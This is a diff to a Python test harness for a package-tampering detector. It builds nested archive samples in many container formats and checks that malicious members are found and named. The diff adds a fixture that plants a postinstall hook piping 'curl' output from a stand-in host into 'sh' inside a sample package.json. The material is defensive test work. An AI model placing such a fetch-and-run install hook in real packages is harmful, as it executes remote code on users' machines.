@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
-"""Every kind of container, one row each: what is three deep inside is seen and named, its innocent twin is clean, a
-damaged copy never is.   kinds.py ASSAY [--whole] [KIND...]
+"""Every kind of container, one row each: a script and an install action three deep inside are seen and named, the
+innocent twin is clean, a damaged copy never is (what kinds of packages run themselves is in actions.py).   kinds.py ASSAY [--whole] [KIND...]
 
 A sample is damaged at some places; --whole cuts at every kilobyte and at every byte of the first and last 128, and
 flips one bit in every 64 bytes. A flipped bit may hit what nobody reads, so those only have to be answered; a cut
@@ -28,7 +28,7 @@ import hfsplus  # noqa: E402
 import udf  # noqa: E402
 import zipkin  # noqa: E402
 
-HOST, INSIDE = "cdn.sample-static.example", "app.zip!/package/sample.tgz!/package/index.js"
+HOST, INSIDE = "cdn.sample-static.example", "app.zip!/package/sample.tgz!/package/"
 CUTS, FLIPS = 5, 6
 KINDS = []
 
@@ -247,20 +247,30 @@ def is_answered(d):
     return "" if d["verdict"] in releases.RANKS else "no verdict"
 
 
-def is_named(d):
-    if d["verdict"] != "tampered":
-        return releases.why(d)
-    if not any(f["where"]["member"].endswith(INSIDE) for f in d["findings"]):
-        return "the member is not named: " + releases.why(d)
-    return "" if any(HOST in str(f) for f in d["findings"]) else "the host is not named"
+def is_named(member):
+    def check(d):
+        if d["verdict"] != "tampered":
+            return releases.why(d)
+        if not any(f["where"]["member"].endswith(INSIDE + member) for f in d["findings"]):
+            return "the member is not named: " + releases.why(d)
+        return "" if any(HOST in str(f) for f in d["findings"]) else "the host is not named"
+    return check
+
+
+def hooked():
+    """A command that the package manager runs, and nothing else that is wrong."""
+    tree = changed("1.0.3")
+    package = dict(json.loads(tree["package.json"]), scripts={"postinstall": "curl -fsSL https://%s/s | sh" % HOST})
+    return dict(tree, **{"package.json": json.dumps(package, indent=2).encode()})
 
 
 def row(matrix, name, maker, whole):
-    old, twin, bad = (os.path.abspath("sample-1.0.%d.%s" % (i, name)) for i in range(3))
-    for tree, target in ((base(), old), (changed(), twin), (tampered("1.0.2"), bad)):
+    old, twin, bad, hook = (os.path.abspath("sample-1.0.%d.%s" % (i, name)) for i in range(4))
+    for tree, target in ((base(), old), (changed(), twin), (tampered("1.0.2"), bad), (hooked(), hook)):
         maker(deep(tree), target)
     matrix.ask(name, "twin", old, twin, is_clean)
-    matrix.ask(name, "three deep", old, bad, is_named)
+    matrix.ask(name, "script three deep", old, bad, is_named("index.js"))
+    matrix.ask(name, "install action three deep", old, hook, is_named("package.json"))
     with open(twin, "rb") as f:
         data = f.read()
 
@@ -316,8 +326,8 @@ def main(argv):
     print("TAP version 13\n1..%d" % (len(rows) + 1))
     for number, (name, formats, _) in enumerate(rows, 1):
         wrong = matrix.wrong.get(name, [])
-        print("%s %d - %s (%s): twin, three deep, %d damaged" % (
-            "not ok" if wrong else "ok", number, name, " ".join(formats), matrix.asked.get(name, 2) - 2))
+        print("%s %d - %s (%s): twin, script and install action three deep, %d damaged" % (
+            "not ok" if wrong else "ok", number, name, " ".join(formats), matrix.asked.get(name, 3) - 3))
         for line in wrong[:6]:
             print("# " + line.replace("\n", "\n# "))
     print("%s %d - every container that is opened has a row" % ("not ok" if missing else "ok", len(rows) + 1))
